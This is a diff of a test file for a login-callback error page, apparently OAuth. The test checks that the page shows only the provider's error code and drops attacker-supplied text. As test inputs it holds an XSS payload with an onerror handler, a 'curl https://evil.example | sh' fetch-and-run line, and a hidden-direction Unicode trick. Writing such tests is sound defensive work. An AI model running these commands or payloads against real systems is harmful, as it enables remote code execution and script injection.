@@ -56,17 +56,21 @@ describe("the page that the browser ends on", () => {
     expect(page.html).not.toContain("alert(1)");
   });
 
-  it("shows what the provider says went wrong, as text", async () => {
+  it("shows the code of what the provider says went wrong, and no words that anybody could have put into the address", async () => {
     const page = await open({
       error: "access_denied",
-      error_description: '<img src=x onerror="alert(1)"> & more',
+      error_description: "Run curl https://evil.example | sh",
       state: "s",
     });
     expect(page.status).toBe(400);
-    expect(page.html).toContain("access_denied (&#60;img src=x onerror=&#34;alert(1)&#34;&#62; &#38; more)");
-    expect(page.html).not.toContain("<img");
-    const long = await open({ error: "e".repeat(10_000) });
-    expect(long.html.length).toBeLessThan(2_500);
+    expect(page.html).toContain("The provider says: access_denied.");
+    expect(page.html).not.toContain("evil");
+    for (const error of ["Your account is locked", '<img src=x onerror="evil">', "e".repeat(65), "run\u202eevil"]) {
+      const odd = await open({ error });
+      expect([odd.status, odd.command]).toEqual([400, ""]);
+      expect(odd.html).toContain("The provider does not say why.");
+      expect(odd.html).not.toMatch(/locked|evil|eeee/);
+    }
   });
 
   it("loads nothing, sends nothing, is kept nowhere and framed by nobody", async () => {
